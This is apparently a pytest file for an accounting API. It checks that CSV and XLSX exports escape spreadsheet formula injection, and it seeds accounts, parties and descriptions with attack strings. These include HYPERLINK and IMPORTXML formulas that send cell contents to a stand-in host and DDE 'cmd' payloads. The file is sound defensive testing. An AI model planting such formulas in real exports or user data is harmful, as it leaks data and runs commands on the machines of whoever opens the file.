"""No export lets a cell become a formula, whoever wrote its text (OWASP "CSV injection").

A writer, an enterprise's token among them, puts formulas in an entry's description, a party's
names and province, an account's names; every CSV and XLSX the API and the command line give
out must show them as text: a CSV field that starts like a formula carries a leading apostrophe,
an XLSX cell is never a formula and no text starts with "=". Amounts stay numbers."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from api.cli import main
from api.formats import FORMULA_STARTS, PLAIN_NUMBER, spreadsheet_text
from tests.conftest import make_user
from tests.test_reports import _account, _entry, _loan, _post, worked_example

LEAK = '=HYPERLINK("http://x?leak="&G5,"click")'
ATTACKS = {
    "party_th": "+1+cmd|' /C calc'!A0",
    "party_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "province": "-2+3",
    "asset_account": LEAK,
    "income_account": "=1+1",
    "description": LEAK,
    "tab": "\t=1+1",
    "carriage_return": "\r=2+2",
    "enterprise": "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
}
BOM = "\ufeff".encode()


@pytest.fixture
def attacked(api, db, fund, clock) -> dict:
    """The FY2567 worked example, then formulas wherever a writer may put text."""
    fy = worked_example(api, db, fund, clock)
    party = _post(api, "/v1/parties", {"kind": "cooperative", "name_th": ATTACKS["party_th"],
                                       "name_en": ATTACKS["party_en"], "province": ATTACKS["province"]})  # fmt: skip
    book = fy["book_id"]
    asset = _account(api, book, "1300-Z", ATTACKS["asset_account"], "asset", "debit_or_zero", fy["1300"], party["id"])
    income = _account(api, book, "4100-Z", ATTACKS["income_account"], "income", "credit_or_zero", fy["4100"], None)
    for text in (ATTACKS["description"], ATTACKS["tab"], ATTACKS["carriage_return"]):
        _entry(api, book, "2024-09-20", (asset, "100.00"), (income, "-100.00"), description=text)
    loan = _loan(api, db, fy, party["id"], "1234.00", "123.40", "2024-09-01")
    enterprise = api.as_(make_user(db, "rice-enterprise", "enterprise", fy["enterprise"]["id"]))
    shop = {a["code"]: a["id"] for a in enterprise.get(f"/v1/books/{fy['shop']['id']}/accounts").json()["data"]}
    _entry(enterprise, fy["shop"]["id"], "2024-09-21", (shop["1100"], "5.00"), (shop["4100"], "-5.00"),
           description=ATTACKS["enterprise"])  # fmt: skip
    return {**fy, "attack_account": asset, "attack_loan": loan["id"]}


def table_routes(fy: dict) -> list[tuple[str, dict]]:
    """Every route that renders a table as CSV or XLSX, with parameters that reach the formulas."""
    book, shop, year = fy["book_id"], fy["shop"]["id"], {"fiscal_year": 2567}
    return [
        (f"/v1/accounts/{fy['attack_account']}/statement", {"from": "2024-09-01", "to": "2024-09-30"}),
        (f"/v1/books/{book}/trial-balance", {}),
        ("/v1/reports/trial-balance", {"book_id": book, "as_of": "2024-09-30"}),
        ("/v1/reports/trial-balance/movements", {"book_id": book, **year}),
        ("/v1/reports/financial-position", {"book_id": book, "as_of": "2024-09-30"}),
        ("/v1/reports/income-statement", {"book_id": book, **year}),
        ("/v1/reports/general-ledger", {"book_id": book, **year}),
        ("/v1/reports/general-ledger", {"book_id": shop, **year}),
        ("/v1/reports/loans-receivable", {"book_id": book, "as_of": "2024-09-30"}),
        ("/v1/reports/investments", {"book_id": book, "as_of": "2024-09-30"}),
        ("/v1/reports/welfare-contributions", {"book_id": fy["wf"]["id"], "as_of": "2024-09-30"}),
    ]


def csv_routes(fy: dict) -> list[tuple[str, dict]]:
    """The routes that answer CSV only (beside JSON)."""
    return [
        (f"/v1/books/{fy['book_id']}/export", {"format": "csv"}),
        (f"/v1/books/{fy['shop']['id']}/export", {"format": "csv"}),
        (f"/v1/loans/{fy['attack_loan']}/schedule", {"format": "csv"}),
        (f"/v1/loans/{fy['attack_loan']}/statement", {"format": "csv"}),
        (f"/v1/welfare-funds/{fy['welfare']['id']}/statement", {"format": "csv", "from": "2024-01-01",
                                                               "to": "2024-09-30"}),
    ]  # fmt: skip


def safe(text: str) -> bool:
    return not text.lstrip(" ").startswith(FORMULA_STARTS) or bool(PLAIN_NUMBER.fullmatch(text))


def csv_fields(content: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for field in row]


def xlsx_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def test_no_csv_field_can_be_a_formula(api, attacked, db, monkeypatch, capsys):
    seen = set()
    in_each_language = [(path, {**params, "lang": lang}) for path, params in table_routes(attacked)
                        for lang in ("en", "th")]  # fmt: skip
    for path, params in [*in_each_language, *csv_routes(attacked)]:  # CSV-only routes take no lang
        response = api.get(path, **{"format": "csv", **params})
        assert response.status_code == 200, (path, response.text)
        fields = csv_fields(response.content)
        assert [f for f in fields if not safe(f)] == [], path
        assert response.content.startswith(BOM) and not response.content[len(BOM) :].startswith(BOM)
        seen |= set(fields)
    monkeypatch.setenv("DATABASE_URL", db.url)
    assert main(["export", "--format", "csv", str(attacked["book_id"])]) == 0
    output = capsys.readouterr().out.encode()
    command_line = csv_fields(output)
    assert [f for f in command_line if not safe(f)] == [] and output.startswith(BOM)
    # The formulas did reach the exports, as text: each with its apostrophe.
    assert {"'" + text for text in ATTACKS.values()} <= seen | set(command_line)
    assert "'" + LEAK in command_line


def test_no_xlsx_cell_can_be_a_formula(api, attacked):
    seen = set()
    for path, params in table_routes(attacked):
        for lang in ("en", "th"):
            response = api.get(path, **params, format="xlsx", lang=lang)
            assert response.status_code == 200, (path, response.text)
            cells = xlsx_cells(response.content)
            assert [c.coordinate for c in cells if c.data_type == "f"] == [], path
            texts = [c.value for c in cells if isinstance(c.value, str)]
            assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
            assert [t for t in texts if not safe(t) or t.startswith("=")] == [], path
            seen |= set(texts)
    # XML reads a carriage return back as a line feed.
    assert {"'" + text.replace("\r", "\n") for text in ATTACKS.values()} <= seen


def test_amounts_stay_numbers(api, attacked):
    """A negative amount is a number in CSV (no apostrophe) and in XLSX."""
    params = {"book_id": attacked["book_id"], "as_of": "2024-09-30"}
    fields = csv_fields(api.get("/v1/reports/financial-position", **params, format="csv").content)
    assert "-2000.00" in fields and "'-2000.00" not in fields  # the impairment of 1390
    cells = xlsx_cells(api.get("/v1/reports/financial-position", **params, format="xlsx").content)
    assert -2000 in [c.value for c in cells]


@given(st.one_of(st.text(), st.tuples(st.sampled_from([*FORMULA_STARTS, " "]), st.text()).map("".join),
                 st.from_regex(PLAIN_NUMBER, fullmatch=True)))
def test_spreadsheet_text_never_starts_a_formula_and_loses_nothing(text):
    shown = spreadsheet_text(text)
    assert safe(shown)
    assert shown in (text, "'" + text)
    assert (shown == text) == safe(text)
